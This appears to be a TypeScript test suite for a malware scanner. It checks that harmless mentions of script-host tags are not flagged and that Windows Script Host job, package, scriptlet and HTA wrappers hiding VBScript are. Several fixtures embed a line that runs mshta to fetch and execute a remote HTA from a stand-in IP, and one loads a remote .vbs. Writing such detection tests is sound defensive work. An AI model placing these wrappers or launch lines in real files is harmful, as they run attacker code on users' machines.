import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { ourInspector } from '#inspect/testing/inspector.ts'

const { inspect } = await ourInspector()
const severe = (text: string, name: string | null): string[] =>
  inspect(Buffer.from(text), { name })
    .findings.filter(({ severity }) => severity === 'malicious')
    .map(({ id }) => id)

const LOADED = '<script src="https://cdn.example.com/lib.min.js"></script>'
const NAMES = ['notes.txt', 'README.md', 'module.pl', 'index.d.ts', null]

suite('texts that mention elements of script hosts beside a script of a page are harmless', () => {
  for (const mention of [
    'To remove it, run dpkg --purge <package> as root.',
    'The C<package> statement declares a namespace, as in the manual.',
    'const story = shallowRef<Component | null>(null);',
    'Write to <component> or <job> and wait for the answer.',
    'A file of packages has one <package> element per package </package> as the manual says.',
    'The type application/hta is refused by most servers of this kind.',
  ])
    for (const name of NAMES)
      test(`${name}: ${mention}`, () => {
        const text = `Some words about it come first.\n\n${mention}\n\nThen a page loads it:\n\n${LOADED}\n\nThat is all there is to say.\n`
        assert.deepEqual(severe(text, name), [])
        assert.deepEqual(severe(`${text}${text}`, name), [])
      })
})

const RUN = 'CreateObject("WScript.Shell").Run "mshta http://192.0.2.1/a.hta"'
const script = (code: string): string => `<script language="VBScript">${code}</script>`

suite('a host that is hidden in a text is found', () => {
  for (const [name, hosted] of Object.entries({
    job: `<job id="a">${script(RUN)}</job>`,
    'a loaded script': '<job id="a"><script language="VBScript" src="http://192.0.2.1/a.vbs"></script></job>',
    'a package of jobs': `<package>\n<job id="a">\n${script(RUN)}\n</job>\n</package>`,
    scriptlet: `<scriptlet><registration progid="a">${script(RUN)}</registration></scriptlet>`,
    'a comment before the script': `<job><!-- <job> words of a comment here -->${script(RUN)}</job>`,
    'texts for the user': `<job><runtime><description>This is what it does for you</description></runtime><resource id="a">Words that are shown</resource>${script(RUN)}</job>`,
    'the words of the element in the script': `<job>${script(`a = "<job></job>"\n${RUN}`)}</job>`,
    'the element again before its end': `<job>${script(RUN)}<!-- <job> --></job>`,
    'a mention before it': `<package> is a word.\n<job>${script(RUN)}</job>`,
    'an application': `<hta:application id="a">\n${script(RUN)}`,
    'an application by its type': `<object type="application/hta"></object>\n${script(RUN)}`,
  }))
    for (const file of ['a.txt', 'a.md', 'a.dat'])
      test(`${file}: ${name}`, () => {
        assert.notDeepEqual(severe(`Some words about it come first.\n${hosted}\n`, file), [])
        assert.notDeepEqual(severe(hosted, file), [])
      })
  test('without an end, under the name of such a file', () => {
    for (const file of ['a.wsf', 'a.sct', 'a.hta'])
      assert.notDeepEqual(severe(`Some words about it come first.\n<job>${script(RUN)}`, file), [])
  })
})
